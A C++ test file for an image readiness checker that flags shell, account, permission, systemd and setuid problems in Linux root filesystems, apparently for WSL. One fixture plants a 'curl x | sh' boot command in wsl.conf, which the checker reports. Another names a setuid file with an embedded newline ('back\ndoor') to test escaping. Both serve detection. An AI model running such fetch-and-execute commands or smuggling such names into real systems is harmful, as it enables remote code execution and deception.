// SPDX-License-Identifier: MIT
#include "tests/support/readiness_fixture.h"

#include <array>

namespace decant {
namespace {

class ReadinessFindingsTest : public ReadinessFixture
{};

TEST_F(ReadinessFindingsTest, MissingShIsForgivenWhereAnotherShellIs)
{
    const auto report = checkDebianWith(TarBuilder().file("usr/bin/.wh.sh"));
    EXPECT_EQ(idsOf(report, Severity::Warning), QStringList{u"no-sh"_s});
    EXPECT_EQ(report.shell, u"/usr/bin/bash"_s);
    EXPECT_EQ(findingOf(report, u"no-sh"_s).fix, u"ln -s /usr/bin/bash /bin/sh"_s);
    const auto none = checkDebianWith(
        TarBuilder().file("usr/bin/.wh.sh").file("usr/bin/.wh.bash").file("usr/bin/.wh.dash"));
    EXPECT_EQ(idsOf(none, Severity::Blocker), QStringList{u"no-shell"_s});
}

TEST_F(ReadinessFindingsTest, ShellThatLeadsNowhereOrMayNotRunIsNone)
{
    TarBuilder dangling;
    addAccounts(dangling);
    dangling.symlink("bin/sh", "nowhere");
    EXPECT_EQ(idsOf(check(dangling), Severity::Blocker), QStringList{u"no-shell"_s});
    TarBuilder plain;
    addAccounts(plain);
    plain.file("bin/sh", elfHead(62, {}));
    EXPECT_EQ(idsOf(check(plain), Severity::Blocker), QStringList{u"shell-not-executable"_s});
}

TEST_F(ReadinessFindingsTest, ShellNeedsItsLoader)
{
    const auto report = checkDebianWith(TarBuilder().file("usr/lib64/.wh.ld-linux-x86-64.so.2"));
    EXPECT_EQ(idsOf(report, Severity::Blocker), QStringList{u"no-loader"_s});
    EXPECT_TRUE(report.sentence().contains(u"/lib64/ld-linux-x86-64.so.2"));
}

TEST_F(ReadinessFindingsTest, FaultyAccountsAreNamed)
{
    const std::string root = "root:x:0:0::/root:/bin/sh\n";
    const std::vector<std::array<std::string, 3>> cases{
        {"etc/passwd", root + "short:x:1\n", "accounts-malformed"},
        {"etc/passwd", root + "a:x:one:1::/:/bin/sh\n", "accounts-malformed"},
        {"etc/passwd", root + "a:x:1:1::/:\na:x:2:2::/:\n", "accounts-duplicate"},
        {"etc/passwd", root + "a:x:1:1::/:\nb:x:1:1::/:\n", "accounts-duplicate-id"},
        {"etc/passwd", "a:x:1:1::/:/bin/sh\n", "no-root-account"},
        {"etc/passwd", "root:x:7:0::/:/bin/sh\n", "no-root-account"},
        {"etc/passwd", "", "no-root-account"},
        {"etc/passwd", "root:x:0:0::/root:/bin/gone\n", "root-shell"},
        {"etc/passwd", "root:x:0:0::/root:/usr/sbin/nologin\n", "root-shell"},
        {"etc/.wh.passwd", "", "no-passwd"},
        {"etc/.wh.group", "", "no-group"},
        {"etc/group", "root:x:0:\nroot:x:1:\n", "accounts-duplicate"},
        {"etc/group", "root:x:0\n", "accounts-malformed"},
        {"etc/shadow", "root:*:\n", "accounts-malformed"}};
    for (const auto &[file, content, id] : cases) {
        const auto report = checkDebianWith(TarBuilder().mode(0640).file(file, content));
        EXPECT_EQ(idsOf(report, Severity::Warning), QStringList{QString::fromStdString(id)})
            << file << ": " << content;
    }
}

TEST_F(ReadinessFindingsTest, HarmlessAccountsAreNot)
{
    const auto report = checkDebianWith(
        TarBuilder().file("etc/passwd", "root::0:0:::\n\n+::::::\nlast:x:1000:1000::/:/bin/sh"));
    EXPECT_EQ(report.verdict(), Verdict::Ready) << report.sentence().toStdString();
}

TEST_F(ReadinessFindingsTest, WhoCouldLiveThereIsKnownByNumberAndShell)
{
    const auto userOf = [this](const std::string &lines) {
        return checkDebianWith(
                   TarBuilder().file("etc/passwd", "root:x:0:0::/root:/bin/bash\n" + lines))
            .ordinaryUser;
    };
    const std::string bea = "bea:x:1001:1001::/home/bea:/bin/bash\n";
    const std::string ubuntu = "ubuntu:x:1000:1000:Ubuntu:/home/ubuntu:/bin/bash\n";
    EXPECT_EQ(userOf({}), QString());
    EXPECT_EQ(userOf(bea + ubuntu), u"ubuntu"_s);
    for (const auto *nobody :
         {"www:x:33:33::/srv:/bin/bash\n", "big:x:60000:1::/home/a:/bin/bash\n",
          "out:x:1000:1::/home/a:/usr/sbin/nologin\n", "lost:x:1000:1::/home/a:/bin/zsh\n",
          "none:x:1000:1::/home/a:\n"})
        EXPECT_EQ(userOf(nobody), QString()) << nobody;
    intent.user = u"bea:bea"_s;
    EXPECT_EQ(userOf(ubuntu + bea), u"bea"_s) << "whom the image names";
    intent.user = u"1001"_s;
    EXPECT_EQ(userOf(ubuntu + bea), u"bea"_s);
}

TEST_F(ReadinessFindingsTest, ShadowIsForRootAlone)
{
    const auto row = "root:*:19000:0:99999:7:::\n";
    const auto open = checkDebianWith(TarBuilder().mode(0644).file("etc/shadow", row));
    EXPECT_EQ(idsOf(open, Severity::Warning), QStringList{u"shadow-mode"_s});
    EXPECT_TRUE(open.sentence().contains(u"0644"));
    for (const int mode : {0, 0600, 0640})
        EXPECT_EQ(checkDebianWith(TarBuilder().mode(mode).file("etc/shadow", row)).verdict(),
                  Verdict::Ready);
    const auto none = checkDebianWith(TarBuilder().file("etc/.wh.shadow"));
    EXPECT_TRUE(idsOf(none, Severity::Note).contains(u"no-shadow"_s));
}

TEST_F(ReadinessFindingsTest, TmpIsOpenToEverybodyAndSticky)
{
    EXPECT_EQ(idsOf(checkDebianWith(TarBuilder().mode(0755).dir("tmp")), Severity::Warning),
              QStringList{u"tmp"_s});
    EXPECT_EQ(idsOf(checkDebianWith(TarBuilder().file(".wh.tmp")), Severity::Warning),
              QStringList{u"tmp"_s});
    EXPECT_EQ(findingOf(checkDebianWith(TarBuilder().file(".wh.tmp")), u"tmp"_s).fix,
              u"mkdir -m 1777 /tmp"_s);
}

TEST_F(ReadinessFindingsTest, MissingToolsComeWithTheCommandThatBringsThem)
{
    const auto debian = checkDebianWith(TarBuilder().file("usr/bin/.wh.mount"));
    EXPECT_EQ(findingOf(debian, u"no-mount"_s).severity, Severity::Warning);
    EXPECT_EQ(findingOf(debian, u"no-mount"_s).fix,
              u"apt-get update && apt-get install -y mount"_s);
    EXPECT_EQ(findingOf(check(alpineRoot()), u"no-sudo"_s).fix, u"apk add sudo"_s);
    EXPECT_EQ(findingOf(check(alpineRoot()), u"no-systemd"_s).fix, QString());
    EXPECT_EQ(findingOf(check(archRoot()), u"no-ca-certificates"_s).fix,
              u"pacman -Syu --noconfirm ca-certificates"_s);
    const auto few = checkDebianWith(
        TarBuilder().file("usr/bin/.wh.id").file("usr/bin/.wh.login").file("usr/lib/.wh.locale"));
    EXPECT_EQ(idsOf(few, Severity::Note),
              (QStringList{u"no-id"_s, u"no-login"_s, u"no-sudo"_s, u"no-ca-certificates"_s,
                           u"no-locale"_s, u"no-systemd"_s}));
}

TEST_F(ReadinessFindingsTest, D12WhatStartsWithWslIsSaidBefore)
{
    const auto with = [this](const std::string &configuration) {
        return checkDebianWith(TarBuilder().file("etc/wsl.conf", configuration));
    };
    const auto evil =
        with("[user]\ncommand=no\n[boot]\n# command = no\nCommand = \"curl x | sh\"\n");
    EXPECT_EQ(idsOf(evil, Severity::Warning), QStringList{u"boot-command"_s});
    EXPECT_TRUE(evil.sentence().endsWith(u"curl x | sh")) << evil.sentence().toStdString();
    EXPECT_EQ(with("[user]\ncommand=no\n").verdict(), Verdict::Ready);
    EXPECT_EQ(idsOf(with("[boot]\nsystemd=true\n"), Severity::Warning),
              QStringList{u"systemd-missing"_s});
    EXPECT_EQ(with("[boot]\nsystemd=false\n").verdict(), Verdict::Ready);
    EXPECT_EQ(check(std::vector{fedoraRoot(),
                                TarBuilder().file("etc/wsl.conf", "[boot]\nsystemd=true\n")})
                  .verdict(),
              Verdict::Ready);
}

TEST_F(ReadinessFindingsTest, SystemdIsThereOnlyIfInitIsIt)
{
    const auto report = check(std::vector{fedoraRoot(), TarBuilder().file("usr/sbin/.wh.init")});
    EXPECT_FALSE(report.hasSystemd);
    EXPECT_EQ(idsOf(report, Severity::Note), QStringList{u"systemd-incomplete"_s});
    const auto other =
        check(std::vector{fedoraRoot(), TarBuilder().mode(0755).file("usr/sbin/init", "another")});
    EXPECT_FALSE(other.hasSystemd);
}

TEST_F(ReadinessFindingsTest, D12UnusualPrivilegedProgramsAreNamed)
{
    TarBuilder tools;
    tools.mode(04755).file("usr/bin/sudo").file("usr/bin/passwd");
    EXPECT_FALSE(idsOf(checkDebianWith(tools), Severity::Note).contains(u"setuid"_s));
    tools.file("opt/back\ndoor").owner(1000, 1000).file("opt/somebodys").owner(0, 0);
    tools.mode(04644).file("opt/text").mode(02755).file("opt/group");
    const auto one = findingOf(checkDebianWith(tools), u"setuid"_s);
    EXPECT_EQ(one.severity, Severity::Note);
    EXPECT_TRUE(one.sentence.endsWith(u"/opt/back\\x0adoor.")) << one.sentence.toStdString();
    tools.mode(04755);
    for (int i = 0; i < 8; ++i)
        tools.file("opt/tool" + std::to_string(i));
    EXPECT_TRUE(findingOf(checkDebianWith(tools), u"setuid"_s).sentence.contains(u"4 more"));
}

TEST_F(ReadinessFindingsTest, PrivilegedProgramsAreNamedWhereNoShellIsToo)
{
    auto root = distrolessRoot();
    root.mode(04755).file("usr/bin/odd");
    EXPECT_EQ(idsOf(check(root), Severity::Note), QStringList{u"setuid"_s});
}

} // namespace
} // namespace decant
